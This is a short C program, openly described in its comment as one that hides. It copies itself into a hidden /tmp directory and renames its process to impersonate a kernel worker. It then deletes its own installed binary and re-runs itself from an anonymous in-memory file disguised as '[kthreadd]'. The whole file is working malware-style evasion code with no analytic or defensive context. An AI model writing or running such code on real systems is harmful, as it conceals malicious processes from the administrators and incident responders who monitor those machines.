/* A program that hides: takes another name, removes its own file, and goes on from memory. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <unistd.h>

static char content[1 << 20];

int main(int argc, char **argv)
{
	if (argc > 1)
		return 0;
	int self = open("/proc/self/exe", O_RDONLY);
	ssize_t size = read(self, content, sizeof(content));
	int copy = open("/tmp/.x/agent", O_WRONLY | O_CREAT, 0755);
	if (write(copy, content, size) != size)
		return 1;
	close(copy);
	if (fork() == 0) {
		execl("/tmp/.x/agent", "agent", "remove", (char *)0);
		return 1;
	}
	prctl(PR_SET_NAME, "kworker/u4:2");
	unlink("/opt/tactic");
	int memory = memfd_create("x", 0);
	if (write(memory, content, size) != size)
		return 1;
	char *arguments[] = { "[kthreadd]", "memory", 0 };
	char *environment[] = { 0 };
	fexecve(memory, arguments, environment);
	return 1;
}
